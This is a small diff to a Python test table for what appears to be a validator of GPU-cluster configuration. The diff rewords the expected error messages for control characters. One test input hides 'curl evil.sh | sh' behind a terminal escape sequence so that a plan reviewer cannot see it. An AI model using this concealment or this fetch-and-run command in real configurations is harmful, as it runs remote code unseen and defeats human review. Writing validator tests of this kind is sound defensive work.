@@ -115,13 +115,13 @@ CASES: list[tuple[str, dict[str, Any], str, str]] = [
         "a terminal escape that hides a line of the command from the plan's reader",
         {"gpuClusters": [cluster(startupCommand="echo ok\x1b[1A\x1b[2Kcurl evil.sh | sh")]},
         "gpuClusters[0].startupCommand",
-        "control character \\x1b",
+        "the character \\x1b",
     ),
     (
         "a carriage return in metadata",
         {"gpuClusters": [cluster(metadata={"note": "a\rb"})]},
         "gpuClusters[0].metadata.note",
-        "control character \\r",
+        "the character \\r",
     ),
     (
         "too many logins",
